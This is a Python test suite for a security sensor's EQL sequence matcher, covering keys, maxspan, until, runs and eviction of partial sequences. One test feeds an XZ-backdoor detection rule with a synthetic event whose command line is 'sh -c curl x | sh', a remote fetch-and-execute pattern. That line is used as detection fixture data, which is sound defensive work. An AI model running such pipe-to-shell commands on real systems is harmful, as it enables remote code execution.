"""EQL sequences on a stream: `by` keys shared and per sub-query, maxspan, until, and bounded state."""

from __future__ import annotations

from pathlib import Path

import pytest

from sensor.rules.eql_compile import compile_query
from sensor.rules.eql_parse import parse_query
from sensor.rules.loader import LoadedRule, load_rule_file
from sensor.rules.sequences import SequenceMatcher

SHARED_RULES = Path(__file__).resolve().parents[2].parent / "shared" / "rules"


def matcher(query: str, max_partials: int = 100) -> SequenceMatcher:
    return SequenceMatcher(compile_query(parse_query(query)), max_partials)


def ev(second: float, action: str, host: str = "h1", **process: object) -> dict:
    minute, sec = divmod(second, 60)
    return {"@timestamp": f"2026-11-27T21:{int(minute):02d}:{sec:09.6f}Z",
            "event": {"id": f"{action}-{second}-{host}", "category": ["process"], "action": action,
                      "type": ["start"] if action == "exec" else ["end"]},
            "host": {"id": host}, "process": process}


TWO_STEP = ('sequence by host.id with maxspan=30s '
            '[process where event.action == "end" and process.name == "sshd"] by process.entity_id '
            '[process where event.action == "exec" and process.parent.name == "sshd"] by process.parent.entity_id')


def test_sequence_matches_in_order_with_per_subquery_keys() -> None:
    m = matcher(TWO_STEP)
    assert m.feed(ev(0, "end", name="sshd", entity_id="A")) == []
    assert m.partials == 1
    found = m.feed(ev(5, "exec", name="sh", parent={"name": "sshd", "entity_id": "A"}))
    assert len(found) == 1
    assert [s.event_id for s in found[0].steps] == ["end-0-h1", "exec-5-h1"]
    assert found[0].key == ("h1", "A")
    assert m.partials == 0


def test_sequence_needs_equal_keys() -> None:
    m = matcher(TWO_STEP)
    m.feed(ev(0, "end", name="sshd", entity_id="A"))
    assert m.feed(ev(1, "exec", name="sh", parent={"name": "sshd", "entity_id": "B"})) == []
    assert m.feed(ev(2, "exec", host="h2", name="sh", parent={"name": "sshd", "entity_id": "A"})) == []
    assert len(m.feed(ev(3, "exec", name="sh", parent={"name": "sshd", "entity_id": "A"}))) == 1


def test_order_matters() -> None:
    m = matcher(TWO_STEP)
    assert m.feed(ev(0, "exec", name="sh", parent={"name": "sshd", "entity_id": "A"})) == []
    assert m.feed(ev(1, "end", name="sshd", entity_id="A")) == []


def test_maxspan_is_measured_from_the_first_event() -> None:
    m = matcher(TWO_STEP)
    m.feed(ev(0, "end", name="sshd", entity_id="A"))
    assert m.feed(ev(31, "exec", name="sh", parent={"name": "sshd", "entity_id": "A"})) == []
    assert m.expired == 1
    m.feed(ev(40, "end", name="sshd", entity_id="A"))
    assert len(m.feed(ev(70, "exec", name="sh", parent={"name": "sshd", "entity_id": "A"}))) == 1


def test_until_closes_the_key() -> None:
    m = matcher('sequence by process.entity_id [process where event.action == "exec"] '
                '[process where event.action == "end"] until [process where process.name == "stop"]')
    m.feed(ev(0, "exec", entity_id="A", name="x"))
    m.feed(ev(1, "exec", entity_id="B", name="x"))
    m.feed(ev(2, "fork", entity_id="A", name="stop"))
    assert m.feed(ev(3, "end", entity_id="A", name="x")) == []
    assert len(m.feed(ev(4, "end", entity_id="B", name="x"))) == 1


def test_one_event_cannot_both_start_and_finish_a_sequence() -> None:
    m = matcher("sequence by process.entity_id [process where true] [process where true]")
    assert m.feed(ev(0, "exec", entity_id="A")) == []
    assert len(m.feed(ev(1, "exec", entity_id="A"))) == 1


def test_three_stages_and_newer_start_replaces_older() -> None:
    m = matcher('sequence by process.entity_id with maxspan=10s [process where process.name == "a"] '
                '[process where process.name == "b"] [process where process.name == "c"]')
    m.feed(ev(0, "exec", entity_id="X", name="a"))
    m.feed(ev(8, "exec", entity_id="X", name="a"))      # restarts the sequence at t=8
    m.feed(ev(9, "exec", entity_id="X", name="b"))
    found = m.feed(ev(15, "exec", entity_id="X", name="c"))   # 7 s after the newer start
    assert len(found) == 1 and [s.event_id for s in found[0].steps][0] == "exec-8-h1"


def test_partial_sequences_are_capped_and_evictions_counted() -> None:
    m = matcher(TWO_STEP, max_partials=2)
    for n, entity in enumerate("ABC"):
        m.feed(ev(n, "end", name="sshd", entity_id=entity))
    assert m.partials == 2 and m.evicted == 1
    assert m.feed(ev(5, "exec", name="sh", parent={"name": "sshd", "entity_id": "A"})) == []   # evicted
    assert len(m.feed(ev(6, "exec", name="sh", parent={"name": "sshd", "entity_id": "C"}))) == 1


def test_expire_drops_stale_partials() -> None:
    m = matcher(TWO_STEP)
    m.feed(ev(0, "end", name="sshd", entity_id="A"))
    m.feed(ev(50, "end", name="sshd", entity_id="B"))
    m.expire_stale()
    assert m.partials == 1 and m.expired == 1


@pytest.mark.skipif(not SHARED_RULES.is_dir(), reason="shared rules not present")
def test_elastic_xz_backdoor_sequence_rule() -> None:
    rule = load_rule_file(SHARED_RULES / "persistence_suspicious_ssh_execution_xzbackdoor.toml")
    assert isinstance(rule, LoadedRule) and rule.compiled.is_sequence
    m = SequenceMatcher(rule.compiled, 100)
    linux = {"os": {"type": "linux"}, "id": "h1"}
    first = ev(0, "end", name="sshd", entity_id="S1", exit_code=255, command_line="/usr/sbin/sshd -D -R",
               parent={"command_line": "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"})
    second = ev(2, "exec", name="sh", args=["sh", "-c", "curl x | sh"], command_line="sh -c curl x | sh",
                parent={"name": "sshd", "entity_id": "S1", "command_line": "/usr/sbin/sshd -D -R"})
    benign = ev(3, "exec", name="sh", args=["sh", "-c", "rsync --server"], command_line="sh -c rsync --server",
                parent={"name": "sshd", "entity_id": "S1", "command_line": "/usr/sbin/sshd -D -R"})
    for doc in (first, second, benign):
        doc["host"] = linux
    assert m.feed(first) == []
    assert m.feed(benign) == []
    assert len(m.feed(second)) == 1


def test_a_stage_with_runs_must_match_that_many_times() -> None:
    m = matcher('sequence by host.id with maxspan=30s [process where process.name == "a"] with runs=2 '
                '[process where process.name == "b"]')
    assert m.feed(ev(0, "exec", name="a")) == []
    assert m.feed(ev(1, "exec", name="b")) == []  # one "a" is not enough
    assert m.feed(ev(2, "exec", name="a")) == []
    found = m.feed(ev(3, "exec", name="b"))
    assert len(found) == 1
    assert [s.event_id for s in found[0].steps] == ["exec-0-h1", "exec-2-h1", "exec-3-h1"]
